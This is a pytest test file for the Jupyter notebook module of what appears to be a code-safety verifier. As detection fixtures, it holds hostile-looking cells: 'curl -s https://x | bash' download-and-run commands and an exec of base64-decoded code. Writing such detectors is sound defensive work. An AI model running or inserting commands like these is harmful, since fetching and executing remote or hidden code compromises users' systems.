"""Notebooks: what their cells would do when somebody runs them."""

from __future__ import annotations

import json

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.builders.inspections import inspected, only, probe, rules_of, states_of
from verifier.formats import FormatModule, candidates
from verifier.formats import notebook as module
from verifier.records import CoverageState, Finding

MODULE: FormatModule = module
CLEAN = [CoverageState.INSPECTED]


def notebook(*cells: str | list[str]) -> bytes:
    made = [{"cell_type": "markdown", "source": ["import os\n"]}]
    made += [{"cell_type": "code", "source": cell, "outputs": []} for cell in cells]
    return json.dumps({"cells": made, "nbformat": 4, "nbformat_minor": 5, "metadata": {}}).encode()


@pytest.mark.parametrize(
    ("cells", "rules"),
    [
        ((), []),
        (("import torch\n", "x = 1"), []),
        (("!pip install transformers", "%matplotlib inline\nimport torch", "if x:\n    !ls\n", "y = !ls"), []),
        ((["import os\n", "os.system('ls')"],), ["python-able-code"]),
        (("!curl -s https://x | bash",), ["python-download-and-run"]),
        (("%%bash\ncurl -s https://x | bash",), ["python-download-and-run"]),
        (("import base64", "exec(base64.b64decode('eA=='))"), ["python-hidden-code"]),
    ],
)
def test_cells_are_judged_together(cells: tuple[str, ...], rules: list[str]) -> None:
    records = inspected(MODULE, notebook(*cells), "a.ipynb")
    assert (rules_of(records), states_of(records)) == (rules, CLEAN)


def test_cells_that_are_no_python_are_a_gap() -> None:
    assert states_of(inspected(MODULE, notebook("def f(:"), "a.ipynb")) == [CoverageState.PARTIAL]


def test_notebooks_refine_json() -> None:
    assert candidates(probe(notebook("x = 1"), "a.ipynb")) == (MODULE,)
    assert states_of(inspected(MODULE, b"{", "a.ipynb")) == [CoverageState.UNKNOWN]
    assert states_of(inspected(MODULE, b'{"cells": 3}', "a.ipynb")) == CLEAN


@settings(max_examples=50, deadline=None)
@given(st.lists(st.text(alphabet="import os\n!%=()'x", max_size=30), max_size=4))
def test_any_cells_end_in_coverage(cells: list[str]) -> None:
    records = inspected(MODULE, notebook(*cells), "a.ipynb")
    assert states_of(records)
    assert all(finding.message.isprintable() for finding in only(records, Finding))


@pytest.mark.timeout(60)
def test_lines_cost_what_they_are_long() -> None:
    assert states_of(inspected(MODULE, notebook("!x\n" * 100_000, " " * 300_000), "a.ipynb")) == CLEAN
